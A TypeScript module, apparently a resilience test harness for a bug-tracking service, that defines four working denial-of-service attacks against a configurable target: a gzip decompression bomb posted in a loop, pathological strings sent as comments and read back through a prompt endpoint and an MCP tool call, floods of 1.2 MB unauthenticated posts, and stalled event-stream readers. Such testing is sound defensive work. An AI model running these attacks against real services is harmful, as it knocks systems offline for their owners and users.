import { request } from "node:http";
import { setTimeout as wait } from "node:timers/promises";
import { gzipSync } from "node:zlib";
import { z } from "zod";
import type { Target } from "./whole-product.ts";

/** Does its harm until the signal says stop; it ends by itself then. */
type Attack = (target: Target, signal: AbortSignal) => Promise<void>;

const Announced = z.object({
  complete_url: z.string(),
  uploads: z.array(z.object({ url: z.string(), headers: z.record(z.string(), z.string()) })),
});
const Filed = z.object({ bug: z.object({ id: z.string() }) });

async function until(signal: AbortSignal, work: () => Promise<unknown>): Promise<void> {
  while (!signal.aborted) await work().catch(() => wait(50));
}

const withKey = (key: string): Record<string, string> => ({
  authorization: `Bearer ${key}`,
  "content-type": "application/json",
});

function moveOfMouse(): Uint8Array {
  const positions = `${"{},".repeat(20_600_000)}{}`;
  const snapshot =
    '{"type":2,"data":{"node":{"type":0,"id":1,"childNodes":[]},"initialOffset":{"top":0,"left":0}},"timestamp":2}';
  const head = '{"type":4,"data":{"href":"https://shop.example/","width":800,"height":600},"timestamp":1}';
  return gzipSync(`[${head},${snapshot},{"type":3,"data":{"source":1,"positions":[${positions}]},"timestamp":9}]`);
}

/** Reports with a replay of 62 MB that packs to 63 KB, one after the other. */
const captures: Attack = async ({ url, publishable_key }, signal) => {
  const bytes = moveOfMouse();
  const headers = { "x-api-key": publishable_key, "content-type": "application/json" };
  const uploads = [{ kind: "REPLAY", content_type: "application/gzip", size_bytes: bytes.length }];
  await until(signal, async () => {
    const body = JSON.stringify({ title: `Bomb ${Math.random()}`, uploads });
    const answer = await fetch(`${url}/api/v1/ingest/bugs`, { method: "POST", headers, body, signal });
    const { complete_url, uploads: targets } = Announced.parse(await answer.json());
    for (const target of targets)
      await fetch(target.url, { method: "PUT", headers: target.headers, body: bytes, signal });
    await fetch(complete_url, { method: "POST", headers, body: "{}", signal });
  });
};

const HOSTILE_TEXTS = ["-eyJ", '"]:', "a:1", "at ((((((", "\n", "](  ", "<!--"].map((piece) =>
  piece.repeat(Math.floor(9000 / piece.length)),
);

/** Comments and descriptions made of what once took quadratic time, read as prompts and over MCP. */
const texts: Attack = async ({ url, member_key, project_id }, signal) => {
  const headers = withKey(member_key);
  const post = (path: string, body: unknown): Promise<Response> =>
    fetch(`${url}${path}`, { method: "POST", headers, body: JSON.stringify(body), signal });
  const made = await post("/api/v1/bugs", {
    project_id,
    title: "Hostile text",
    description: HOSTILE_TEXTS.join("").slice(0, 10_000),
    allow_duplicate: true,
  });
  const { id } = Filed.parse(await made.json()).bug;
  for (const body of HOSTILE_TEXTS) await post(`/api/v1/bugs/${id}/comments`, { body });
  const call = { jsonrpc: "2.0", id: 1, method: "tools/call" };
  const accept = { ...headers, accept: "application/json, text/event-stream" };
  await until(signal, async () => {
    const answers = [
      fetch(`${url}/api/v1/bugs/${id}/prompt`, { headers, signal }),
      fetch(`${url}/mcp`, {
        method: "POST",
        headers: accept,
        body: JSON.stringify({ ...call, params: { name: "list_comments", arguments: { bug_id: id } } }),
        signal,
      }),
    ];
    for (const answer of await Promise.all(answers)) await answer.arrayBuffer();
  });
};

/** Posts of 1.2 MB without a key, eight at a time. */
const bodies: Attack = async ({ url }, signal) => {
  const body = JSON.stringify({ title: "x".repeat(1_200_000) });
  const headers = { "content-type": "application/json" };
  const sender = (): Promise<void> =>
    until(signal, async () => {
      const answer = await fetch(`${url}/api/v1/bugs`, { method: "POST", headers, body, signal });
      await answer.arrayBuffer();
    });
  await Promise.all(Array.from({ length: 8 }, sender));
};

/** Readers of events that never read, and changes that would fill their buffers. */
const streams: Attack = async ({ url, member_key, project_id }, signal) => {
  const headers = withKey(member_key);
  const readers = Array.from({ length: 40 }, () => {
    const reader = request(`${url}/api/v1/events`, { headers, agent: false });
    reader.on("response", (response) => response.pause()).on("error", () => undefined);
    reader.end();
    return reader;
  });
  await until(signal, async () => {
    const body = JSON.stringify({ project_id, title: `Event ${Math.random()}`, allow_duplicate: true });
    const answer = await fetch(`${url}/api/v1/bugs`, { method: "POST", headers, body, signal });
    await answer.arrayBuffer();
  });
  for (const reader of readers) reader.destroy();
};

/** What each attack is called in the table. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  "captures that unpack to 62 MB": captures,
  "hostile texts": texts,
  "anonymous bodies of 1.2 MB": bodies,
  "event readers that stall": streams,
};
